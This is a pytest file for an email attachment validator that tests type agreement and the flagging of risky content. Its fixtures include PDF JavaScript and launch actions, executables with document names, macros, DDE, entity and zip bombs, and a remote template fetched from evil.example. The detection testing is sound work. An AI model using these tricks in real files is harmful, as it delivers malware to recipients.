"""Declared type, extension and content must agree; and what is inside is said in the contract's words."""

import zipfile

import pytest

from tests.validation import files
from validation.codes import Code
from validation.formats import judge_form
from validation.inspected import Attachment, Format
from validation.settings import ReadingCaps

CAPS = ReadingCaps()
PDF, DOCX = "application/pdf", f"{files.OOXML}wordprocessingml.document"


def judged(content: bytes, name: str, declared: str = "") -> tuple[Format, list[Code]]:
    """The form of one file and the codes of what was seen."""
    form, observations = judge_form(Attachment(("mail.eml", name), declared, content), CAPS)
    assert all(seen.about == ("mail.eml", name) for seen in observations)
    return form, [seen.code for seen in observations]


AGREEMENT = {
    "all three say PDF": (files.pdf(), "a.pdf", PDF, True),
    "capitals and parameters do not matter": (files.pdf(), "A.PDF", "Application/PDF; name=a.pdf", True),
    "octet-stream says nothing": (files.pdf(), "a.pdf", "application/octet-stream", True),
    "no extension says nothing": (files.pdf(), "congvan", PDF, True),
    "an extension that is no type says nothing": (files.pdf(), "Cong van so 35.2026", PDF, True),
    "an old name for PDF": (files.pdf(), "a.pdf", "application/x-pdf", True),
    "a PDF named docx": (files.pdf(), "a.docx", PDF, False),
    "a PDF declared as a picture": (files.pdf(), "a.pdf", "image/jpeg", False),
    "a Word document": (files.docx(), "a.docx", DOCX, True),
    "a docx declared as old Word": (files.docx(), "a.docx", "application/msword", True),
    "a docx declared as zip": (files.docx(), "a.docx", "application/zip", True),
    "a docx named doc": (files.docx(), "a.doc", "application/msword", False),
    "a docx named pdf": (files.docx(), "a.pdf", PDF, False),
    "a docx named zip": (files.docx(), "a.zip", "application/zip", False),
    "a zip named docx": (files.zipped({"a": b"b"}), "a.docx", DOCX, False),
    "RTF named doc": (files.RTF, "a.doc", "application/msword", False),
    "an old workbook": (files.ole({"Workbook": b""}), "a.xls", "application/vnd.ms-excel", True),
    "an old workbook named doc": (files.ole({"Workbook": b""}), "a.doc", "application/msword", False),
    "text named pdf": (files.TEXT, "a.pdf", PDF, False),
    "text named txt": (files.TEXT, "a.txt", "text/plain", True),
    "text declared as another text": (files.TEXT, "a.csv", "text/csv", True),
    "noise named pdf": (b"\x13\x9a\xf1\x07" * 50, "a.pdf", PDF, False),
    "a program named pdf": (files.PE, "a.pdf", PDF, False),
    "a program named exe": (files.PE, "a.exe", "application/x-msdownload", True),
    "a picture": (files.png(), "a.png", "image/png", True),
    "a picture named jpg": (files.png(), "a.jpg", "image/jpeg", False),
    "an edXML packet": (files.EDXML, "a.edxml", "application/xml", True),
    "a PDF that is a zip too": (files.pdf() + files.zipped({"a": b"b"}), "a.pdf", PDF, False),
}


@pytest.mark.parametrize(("content", "name", "declared", "agrees"), AGREEMENT.values(), ids=AGREEMENT.keys())
def test_three_witnesses(content: bytes, name: str, declared: str, agrees: bool) -> None:
    """`agrees`, and an observation exactly where they do not."""
    form, codes = judged(content, name, declared)
    assert form.agrees is agrees
    assert (Code.FORMAT_MISMATCH in codes) is not agrees


EXECUTABLE = {
    "a program": (files.PE, "setup.exe"),
    "a program with a document's name": (files.PE, "cong-van.pdf"),
    "a program with two extensions": (files.PE, "cong-van.pdf.exe"),
    "text with a program's extension behind a document's": (files.TEXT, "cong-van.pdf.exe"),
    "a PDF named scr": (files.pdf(), "a.scr"),
    "a Linux program": (files.ELF, "a.bin"),
    "a shortcut": (files.LNK, "a.pdf"),
    "a batch file": (b"@echo off\r\n", "a.bat"),
    "JavaScript": (b"var x = 1;\n", "a.js"),
    "Visual Basic script": (b'MsgBox "x"\n', "a.vbs"),
    "PowerShell": (b"Get-Item x\n", "a.ps1"),
    "a shell script": (b"#!/bin/sh\n", "a.txt"),
    "an HTML application": (b"<html></html>", "a.hta"),
    "a Java archive": (files.zipped({"META-INF/MANIFEST.MF": b"x"}), "a.jar"),
    "an installer": (files.ole({"x": b""}), "a.msi"),
}


@pytest.mark.parametrize(("content", "name"), EXECUTABLE.values(), ids=EXECUTABLE.keys())
def test_a_program_is_told_whatever_its_name(content: bytes, name: str) -> None:
    """By content or by what the desktop would do with its name."""
    assert Code.FORMAT_EXECUTABLE in judged(content, name)[1]


@pytest.mark.parametrize("name", ["a.pdf", "Báo cáo v1.2.docx", "so.35.txt"])
def test_a_document_is_no_program(name: str) -> None:
    """Dots in a name are not a double extension."""
    content = {"pdf": files.pdf(), "docx": files.docx(), "txt": files.TEXT}[name.rpartition(".")[2]]
    assert Code.FORMAT_EXECUTABLE not in judged(content, name)[1]


BIFF_LOCKED = b"\x09\x08\x10\x00" + b"\0" * 16 + b"\x2f\x00\x36\x00" + b"\0" * 54
BIFF_MACRO = b"\x09\x08\x10\x00" + b"\0" * 16 + b"\x85\x00\x0a\x00" + b"\0\0\0\0" + b"\0\x01" + b"\x01\x00aa"
WORD_LOCKED = b"\xec\xa5\xc1\x00" + b"\0" * 6 + b"\x00\x01" + b"\0" * 20
ACTION = "/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"
PROPERTIES = {
    "a plain PDF": (files.pdf(), "a.pdf", ()),
    "JavaScript": (files.pdf(ACTION), "a.pdf", ("javascript",)),
    "JavaScript under an escaped name": (
        files.pdf(ACTION.replace("/JS(", "/#4aS(").replace("Java", "J#61va")),
        "a.pdf",
        ("javascript",),
    ),
    "JavaScript in an object of its own": (
        files.pdf("/OpenAction 4 0 R", "<</S/JavaScript/JS(x)>>"),
        "a.pdf",
        ("javascript",),
    ),
    "a launch action": (files.pdf("/OpenAction<</S/Launch/F(a.exe)>>"), "a.pdf", ("launch-action",)),
    "a form of XFA": (files.pdf("/AcroForm<</XFA[]/Fields[]>>"), "a.pdf", ("active-content",)),
    "a link to another file": (
        files.pdf("/OpenAction<</S/GoToR/F(b.pdf)/D[0/Fit]>>"),
        "a.pdf",
        ("external-reference",),
    ),
    "a damaged PDF": (b"%PDF-1.7\n1 0 obj\nnothing", "a.pdf", ("damaged",)),
    "macros in Word": (files.docx(**{"word/vbaProject.bin": b"x"}), "a.docx", ("macros",)),
    "Excel 4 macros": (
        files.ooxml(f"{files.OOXML}spreadsheetml.sheet.main+xml", "xl", **{"xl/macrosheets/sheet1.xml": b"<x/>"}),
        "a.xlsx",
        ("macros",),
    ),
    "macros in an old document": (files.ole({"WordDocument": b"", "_VBA_PROJECT": b""}), "a.doc", ("macros",)),
    "Excel 4 macros in an old workbook": (files.ole({"Workbook": BIFF_MACRO}), "a.xls", ("macros",)),
    "an embedded object": (files.docx(**{"word/embeddings/oleObject1.bin": b"x"}), "a.docx", ("embedded-files",)),
    "a template from elsewhere": (
        files.docx(
            **{
                "word/_rels/settings.xml.rels": b'<Relationship Type="http://x/attachedTemplate" '
                b'Target="http://evil.example/a.dotm" TargetMode="External"/>'
            }
        ),
        "a.docx",
        ("external-reference",),
    ),
    "a hyperlink is no reference": (
        files.docx(
            **{
                "word/_rels/document.xml.rels": b'<Relationship Type="http://x/hyperlink" '
                b'Target="http://example.vn/" TargetMode="External"/>'
            }
        ),
        "a.docx",
        (),
    ),
    "DDE": (
        files.docx(**{"word/document.xml": b"<w:instrText>DDEAUTO c:\\\\x</w:instrText>"}),
        "a.docx",
        ("active-content",),
    ),
    "entities that multiply": (
        files.docx(**{"word/document.xml": b'<!DOCTYPE x [<!ENTITY a "b"><!ENTITY c "&a;&a;">]><x/>'}),
        "a.docx",
        ("bomb",),
    ),
    "encrypted OOXML": (files.ole({"EncryptedPackage": b""}), "a.docx", ("encrypted",)),
    "an encrypted old document": (files.ole({"WordDocument": WORD_LOCKED}), "a.doc", ("encrypted",)),
    "an encrypted old workbook": (files.ole({"Workbook": BIFF_LOCKED}), "a.xls", ("encrypted",)),
    "an encrypted zip": (files.encrypted_zip(), "a.zip", ("encrypted", "archive")),
    "a zip": (files.zipped({"a.txt": b"a"}), "a.zip", ("archive",)),
    "a zip that grows": (files.zipped({"a.txt": b"\0" * 20_000_000}), "a.zip", ("archive", "bomb")),
    "a document that grows": (files.docx(**{"word/b.xml": b"\0" * 20_000_000}), "a.docx", ("bomb",)),
    "a zip cut off": (files.zipped({"a.txt": b"a" * 100})[:-30], "a.zip", ("archive", "damaged")),
    "a picture cut off": (files.png()[:-12], "a.png", ("damaged",)),
    "rich text with an object": (b"{\\rtf1{\\object\\objemb{\\*\\objdata 00}}}", "a.rtf", ("embedded-files",)),
    "a picture with a script": (
        b"<svg xmlns='http://www.w3.org/2000/svg'><script>x</script></svg>",
        "a.svg",
        ("javascript",),
    ),
}


@pytest.mark.parametrize(("content", "name", "expected"), PROPERTIES.values(), ids=PROPERTIES.keys())
def test_what_is_inside(content: bytes, name: str, expected: tuple[str, ...]) -> None:
    """`format.properties`, and the observation that belongs to each."""
    form, codes = judged(content, name)
    assert form.properties == expected
    for words, code in (
        ({"encrypted"}, Code.FORMAT_ENCRYPTED),
        ({"macros"}, Code.FORMAT_MACROS),
        ({"javascript", "launch-action", "active-content"}, Code.FORMAT_ACTIVE),
        ({"bomb"}, Code.FORMAT_BOMB),
        ({"damaged"}, Code.FORMAT_DAMAGED),
    ):
        assert (code in codes) is bool(words & set(expected))


def test_pages_are_counted() -> None:
    """A PDF of one page."""
    assert judged(files.pdf(), "a.pdf")[0].pages == 1


def test_an_empty_file_is_said_to_be_empty() -> None:
    """And nothing else."""
    assert judged(b"", "a.pdf", PDF)[1] == [Code.FORMAT_EMPTY]


def test_content_that_no_rule_knows() -> None:
    """Is unknown, not a mismatch, where nobody claims anything."""
    assert judged(b"\x13\x9a\xf1\x07" * 50, "du-lieu")[1] == [Code.FORMAT_UNKNOWN]


def test_a_zip_that_keeps_its_first_pdf_as_it_is_is_a_zip_and_not_two_files_in_one() -> None:
    kept = files.zipped({"a.pdf": files.pdf()}, zipfile.ZIP_STORED)
    form, codes = judged(kept, "a.zip", "application/zip")
    assert (form.media_type, form.agrees, codes) == ("application/zip", True, [])
    form, codes = judged(kept, "a.pdf", "application/pdf")
    assert Code.FORMAT_MISMATCH in codes
